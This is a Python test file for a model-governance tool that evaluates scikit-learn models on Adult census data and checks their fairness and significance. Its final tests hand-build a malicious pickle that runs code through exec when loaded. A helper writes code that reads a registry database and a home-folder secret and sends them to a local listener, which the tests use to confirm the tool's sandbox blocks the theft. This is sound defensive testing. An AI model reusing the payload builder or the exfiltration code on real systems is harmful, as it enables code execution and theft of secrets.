"""scikit-learn models on the Adult census data: evaluated in the sandbox, compared, judged for fairness."""

from __future__ import annotations

import contextlib
import json
import os
import socket
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pandas as pd
import pytest
from fairlearn.metrics import (
    MetricFrame,
    demographic_parity_difference,
    demographic_parity_ratio,
    equalized_odds_difference,
    false_positive_rate,
    selection_rate,
    true_positive_rate,
)
from skl2onnx import to_onnx
from sklearn.dummy import DummyClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from modelsteward.registry import Registry
from modelsteward.settings import Settings
from tests.conftest import Steward
from tests.evaluation.data import ADULT_FEATURES, adult

ROWS = 600
FAST = ("--resamples", "200", "--batch-sizes", "8,64", "--seed", "0")
COLUMNS = ("--task", "classification", "--columns", "label=income", "--sensitive", "sex,race")


@pytest.fixture(scope="module")
def models(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A logistic regression and a majority-class baseline, trained on other Adult rows, saved with joblib."""
    root = tmp_path_factory.mktemp("models")
    train = adult(3000, seed=1)
    features, labels = train[list(ADULT_FEATURES)].to_numpy(), train["income"]
    fitted = {
        "adult-lr": make_pipeline(StandardScaler(), LogisticRegression(max_iter=1000)).fit(features, labels),
        "adult-majority": DummyClassifier(strategy="most_frequent").fit(features, labels),
    }
    for name, model in fitted.items():
        (root / name).mkdir()
        joblib.dump(model, root / name / "model.joblib")
    (root / "adult-lr-onnx").mkdir()
    exported = to_onnx(fitted["adult-lr"], features[:1].astype(np.float64), options={"zipmap": False})
    (root / "adult-lr-onnx" / "model.onnx").write_bytes(exported.SerializeToString())
    data = root / "adult.csv"
    adult(ROWS, seed=2).to_csv(data, index=False)
    return {"root": root, "fitted": fitted, "data": data}


def test_a_registered_version_is_evaluated_in_the_sandbox_and_recorded(
    steward: Steward, models: dict[str, Any]
) -> None:
    admitted = steward("admit", str(models["root"] / "adult-lr"), "--name", "acme/adult-lr", "--json")
    assert admitted.exit_code in (0, 3), admitted.stderr
    result = steward(
        "evaluate", "acme/adult-lr@1", "--data", str(models["data"]), *COLUMNS, *FAST, "--json"
    ).json()
    assert result["recorded"] == "acme/adult-lr@1"
    assert result["isolation"] == "bubblewrap"
    assert result["model"]["adapter"] == "sklearn"
    accuracy = result["metrics"]["accuracy"]
    assert 0.7 < accuracy["low"] <= accuracy["value"] <= accuracy["high"] < 0.95
    assert set(result["metrics"]) == {"accuracy", "macro_f1", "roc_auc", "ece"}
    efficiency = result["efficiency"]
    assert [p["batch_size"] for p in efficiency["scaling"]] == [8, 64]
    assert efficiency["peak_memory_bytes"] > 10 << 20
    assert efficiency["size_bytes"] == (models["root"] / "adult-lr" / "model.joblib").stat().st_size
    listed = steward("registry", "evaluations", "acme/adult-lr@1", "--json").json()
    assert [(e["task"], e["record"]["metrics"]["accuracy"]["value"]) for e in listed] == [
        ("classification", accuracy["value"])
    ]
    shown = steward("registry", "evaluations", "acme/adult-lr@1")
    assert "1 evaluations" in shown.stdout and "bubblewrap" in shown.stdout
    with Registry.open(Settings.from_env().database_url) as registry:
        kept = registry.evaluations("acme/adult-lr@1")
        assert [e.task for e in kept] == ["classification"]
        assert kept[0].record["metrics"]["accuracy"]["value"] == accuracy["value"]
        assert registry.audit()[-1].action == "evaluate"


@pytest.mark.parametrize("labels", ["text", "integers", "floats"])
def test_group_fairness_equals_fairlearns_own_on_the_same_predictions(
    steward: Steward, models: dict[str, Any], tmp_path: Path, labels: str
) -> None:
    data = pd.read_csv(models["data"])
    model = models["fitted"]["adult-lr"]
    folder, favourable = models["root"] / "adult-lr", ">50K"
    if labels != "text":
        # The same classifier trained on 0/1; the data's labels as 0/1 or as 0.0/1.0 (how a file with a
        # missing value stores integers) must mean the same classes.
        train = adult(3000, seed=1)
        model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=1000))
        model.fit(train[list(ADULT_FEATURES)].to_numpy(), (train["income"] == ">50K").astype(int))
        folder = tmp_path / "adult-lr-01"
        folder.mkdir()
        joblib.dump(model, folder / "model.joblib")
        flags = (data["income"] == ">50K").astype(int)
        data["income"] = flags.astype(float) if labels == "floats" else flags
        favourable = "1"
    path = tmp_path / "adult.csv"
    data.to_csv(path, index=False)
    evaluated = steward("evaluate", str(folder), "--data", str(path), *COLUMNS, *FAST, "--json").json()
    fairness = evaluated["fairness"]
    predicted = np.asarray([str(v) for v in model.predict(data[list(ADULT_FEATURES)].to_numpy())])
    truth = np.asarray([str(int(v)) if labels == "floats" else str(v) for v in data["income"]])
    assert fairness["group_metrics"]["positive"] == favourable  # the rarer label, or the true flag
    assert evaluated["metrics"]["accuracy"]["value"] == pytest.approx(float(np.mean(truth == predicted)))
    gaps = {gap["feature"]: gap for gap in fairness["groups"]}
    selected, actual = predicted == favourable, truth == favourable
    # Fairlearn's own numbers on the same predictions; groups under 30 rows are not judged.
    for feature, columns in (("sex", ["sex"]), ("race", ["race"]), ("sex x race", ["sex", "race"])):
        groups = data[columns].astype(str).agg(" ".join, axis=1)
        rows = (groups.map(groups.value_counts()) >= 30).to_numpy()
        kept = data[columns][rows]
        expected = {
            "demographic_parity_difference": demographic_parity_difference(
                actual[rows], selected[rows], sensitive_features=kept
            ),
            "demographic_parity_ratio": demographic_parity_ratio(
                actual[rows], selected[rows], sensitive_features=kept
            ),
            "equalized_odds_difference": equalized_odds_difference(
                actual[rows], selected[rows], sensitive_features=kept
            ),
        }
        for key, value in expected.items():
            assert gaps[feature][key] == pytest.approx(value, abs=1e-12), (feature, key)
    frame = MetricFrame(
        metrics={"selection_rate": selection_rate, "tpr": true_positive_rate, "fpr": false_positive_rate},
        y_true=actual,
        y_pred=selected,
        sensitive_features=data["sex"],
    ).by_group
    sex = next(d for d in fairness["group_metrics"]["disparities"] if d["features"] == ["sex"])
    for group in sex["groups"]:
        expected_rates = frame.loc[group["group"]["sex"]]
        assert group["selection_rate"] == pytest.approx(expected_rates["selection_rate"])
        assert group["true_positive_rate"] == pytest.approx(expected_rates["tpr"])
        assert group["false_positive_rate"] == pytest.approx(expected_rates["fpr"])


def test_compare_ranks_the_better_model_first_and_shows_the_gap_is_significant(
    steward: Steward, models: dict[str, Any], tmp_path: Path
) -> None:
    report = tmp_path / "leaderboard.html"
    board = _compare(steward, models, ("adult-majority", "adult-lr"), "--html", str(report))
    assert board["best"] == "adult-lr"
    assert [s["candidate"] for s in board["standings"]] == ["adult-lr", "adult-majority"]
    gap = board["standings"][1]["against_best"]
    assert gap["test"].startswith("mcnemar")
    assert gap["p_value"] < 0.001
    assert gap["difference"]["low"] > 0
    assert board["best_is_significant"] is True
    assert "adult-majority" in report.read_text(encoding="utf-8")


def test_the_same_model_exported_to_onnx_is_not_significantly_different(
    steward: Steward, models: dict[str, Any]
) -> None:
    board = _compare(steward, models, ("adult-lr", "adult-lr-onnx"))
    adapters = {e["candidate"]: e["model"]["adapter"] for e in board["evaluations"]}
    assert adapters == {"adult-lr": "sklearn", "adult-lr-onnx": "onnx"}
    scores = [s["score"]["value"] for s in board["standings"]]
    assert scores[0] == pytest.approx(scores[1], abs=2 / ROWS)
    assert board["standings"][1]["against_best"]["p_value"] > 0.5
    assert board["best_is_significant"] is False


def _compare(steward: Steward, models: dict[str, Any], candidates: tuple[str, ...], *extra: str) -> Any:
    """The JSON of ``steward compare`` of the named model folders on the Adult rows."""
    folders = [str(models["root"] / name) for name in candidates]
    return steward(
        "compare", *folders, "--data", str(models["data"]), *COLUMNS, *FAST, "--json", *extra
    ).json()


def test_text_output_shows_the_interval_and_the_groups(steward: Steward, models: dict[str, Any]) -> None:
    folder = str(models["root"] / "adult-lr")
    result = steward("evaluate", folder, "--data", str(models["data"]), *COLUMNS, *FAST)
    assert result.exit_code == 0, result.stderr
    assert "accuracy" in result.stdout
    assert "95% interval" in result.stdout
    assert "sex x race" in result.stdout
    assert "isolation: bubblewrap" in result.stdout


LABELLED = ("--columns", "label=income")
# The four numeric columns other than age, for a regression on age.
BY_AGE = "label=age," + ",".join(f"features={name}" for name in ADULT_FEATURES if name != "age")
BY_INCOME = "label=income," + ",".join(f"features={name}" for name in ADULT_FEATURES)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--columns", "label=incme"), "did you mean 'income'"),
        ((*LABELLED, "--limit", "0"), "limit"),
        ((*LABELLED, "--sensitive", "gender"), "gender"),
        ((*LABELLED, "--batch-sizes", "0"), "--batch-sizes"),
        ((*LABELLED, "--memory", "lots"), "--memory"),
        ((*LABELLED, "--memory", "50M"), "--memory must be at least 512M"),
        ((*LABELLED, "--timeout", "0"), "--timeout must be a positive"),
        ((*LABELLED, "--min-group", "0"), "--min-group"),
        (
            (*COLUMNS[2:], "--positive", "rich"),
            "favourable label 'rich' is not in the data",
        ),
        ((*LABELLED, "--run-option", "max_new_tokens=abc"), "max_new_tokens must be a whole number"),
        ((*LABELLED, "--run-option", "colour=1"), "'colour' is not a run option"),
        (
            ("--task", "regression", "--columns", BY_INCOME),
            "regression needs numbers in the label column 'income'",
        ),
        (("--task", "regression", "--columns", BY_AGE, "--sensitive", "sex"), "needs a classification"),
    ],
)
def test_bad_options_and_data_are_named_before_the_model_runs(
    steward: Steward, models: dict[str, Any], args: tuple[str, ...], message: str
) -> None:
    folder = str(models["root"] / "adult-lr")
    task = () if "--task" in args else COLUMNS[:2]
    result = steward("evaluate", folder, "--data", str(models["data"]), *task, *args)
    assert result.exit_code == 4, result.stderr
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert not (Path(os.environ["STEWARD_HOME"]) / "registry.db").exists()


def test_a_task_the_model_cannot_do_is_named_after_loading(steward: Steward, models: dict[str, Any]) -> None:
    folder = str(models["root"] / "adult-lr")
    columns = ("--task", "regression", "--columns", BY_AGE)
    result = steward("evaluate", folder, "--data", str(models["data"]), *columns)
    assert result.exit_code == 2
    assert "can classify, not regress, which the regression task needs" in result.stderr


@pytest.mark.parametrize(
    ("candidates", "extra", "message"),
    [
        (("adult-lr",), (), "at least two models"),
        (("adult-lr", "adult-lr"), (), "given more than once: "),
        (
            ("adult-lr", "adult-majority"),
            ("--metric", "mae"),
            "mae is not measured by the classification task",
        ),
    ],
)
def test_a_comparison_that_cannot_be_made_is_refused_before_any_model_runs(
    steward: Steward,
    models: dict[str, Any],
    candidates: tuple[str, ...],
    extra: tuple[str, ...],
    message: str,
) -> None:
    folders = [str(models["root"] / name) for name in candidates]
    result = steward("compare", *folders, "--data", str(models["data"]), *COLUMNS, *extra)
    assert result.exit_code == 4
    assert message in result.stderr


def test_a_missing_folder_is_named_as_one(steward: Steward, models: dict[str, Any]) -> None:
    result = steward("evaluate", "./no-such-model", "--data", str(models["data"]), *COLUMNS)
    assert result.exit_code == 2
    assert "./no-such-model: no such folder" in result.stderr


def test_admit_with_data_judges_the_measured_metrics_and_fairness_by_the_policy(
    steward: Steward, models: dict[str, Any], tmp_path: Path
) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "version: 1\nname: strict\n"
        "require_checks: [security, integrity, license, documentation, performance, fairness]\n"
        "documentation: {require_card: false, require: []}\n"
        "license: {unknown: review}\n"
        "performance: {minimum: {accuracy: 0.99}, max_p95_latency_ms: 60000}\n"
        "fairness: {min_demographic_parity_ratio: 0.8}\n",
        encoding="utf-8",
    )
    result = steward(
        "admit",
        str(models["root"] / "adult-lr"),
        "--name",
        "acme/adult-lr",
        "--policy",
        str(policy),
        "--data",
        str(models["data"]),
        *COLUMNS,
        *FAST,
        "--json",
    )
    assert result.exit_code == 3, result.stderr
    document = json.loads(result.stdout)
    reasons = {r["rule"]: r for r in document["decision"]["reasons"]}
    assert reasons["performance.minimum.accuracy"]["verdict"] == "review"
    assert "misses the bound of at least 0.99" in reasons["performance.minimum.accuracy"]["message"]
    assert reasons["performance.max_p95_latency_ms"]["verdict"] == "approve"
    # Men are predicted to earn more far more often than women: the four-fifths rule fails.
    assert reasons["fairness.min_demographic_parity_ratio"]["verdict"] == "review"
    assert "sex" in reasons["fairness.min_demographic_parity_ratio"]["evidence"]
    checks = {c["check"]: c for c in document["checks"]}
    assert checks["performance"]["data"]["metrics"]["accuracy"]["value"] > 0.7
    # The model card carries the measured metrics in its model-index.
    card = Path(document["documents"]["model-card"]).read_text(encoding="utf-8")
    assert "model-index" in card and "accuracy" in card


def test_a_model_rejected_on_its_files_is_never_run(
    steward: Steward, models: dict[str, Any], tmp_path: Path, canary: Path
) -> None:
    folder = tmp_path / "trojan"
    folder.mkdir()
    (folder / "model.pkl").write_bytes(_payload(canary))
    result = steward(
        "admit", str(folder), "--name", "trojan", "--data", str(models["data"]), *COLUMNS, *FAST, "--json"
    )
    assert result.exit_code == 1, result.stderr
    checks = {c["check"]: c for c in json.loads(result.stdout)["checks"]}
    assert checks["performance"]["status"] == "skipped"
    assert not canary.exists()


def test_a_malicious_model_runs_only_in_the_sandbox_and_becomes_an_error(
    steward: Steward, models: dict[str, Any], tmp_path: Path, canary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # What the model would steal: the registry database and a secret in the user's home.
    assert steward("admit", str(models["root"] / "adult-lr"), "--name", "victim", "--json").exit_code in (
        0,
        3,
    )
    registry = Path(os.environ["STEWARD_HOME"]) / "registry.db"
    home = tmp_path / "user"
    home.mkdir()
    (home / "secret").write_text("s3cret", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        port = listener.getsockname()[1]
        steal = (registry, home / "secret")
        folder = tmp_path / "trojan"
        folder.mkdir()
        (folder / "model.pkl").write_bytes(_payload(canary, _exfiltration(steal, port)))
        result = steward("evaluate", str(folder), "--data", str(models["data"]), *COLUMNS, *FAST)
        with contextlib.suppress(TimeoutError):
            connection, _ = listener.accept()
            heard.append(connection.recv(1 << 16))
    assert result.exit_code == 2
    assert "cannot load the model" in result.stderr
    assert not canary.exists()
    assert heard == []


def _exfiltration(paths: tuple[Path, ...], port: int) -> str:
    """Code that reads ``paths`` and sends what it could read to 127.0.0.1:``port``."""
    return (
        "import socket\n"
        "stolen = b''\n"
        f"for path in {[str(p) for p in paths]!r}:\n"
        "    try:\n"
        "        stolen += open(path, 'rb').read()\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen:' + stolen)\n"
        "except OSError:\n"
        "    pass\n"
    )


def _payload(canary: Path, more: str = "") -> bytes:
    """A pickle that, when loaded, runs ``more``, writes ``canary`` (creating its folder) and returns no
    model."""
    touch = f"os.makedirs({str(canary.parent)!r}, exist_ok=True)\nopen({str(canary)!r}, 'w').close()\n"
    code = f"{more}import os\n{touch}"
    return b"\x80\x04" + _global("builtins", "exec") + _string(code) + b"\x85R."


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _string(text: str) -> bytes:
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data
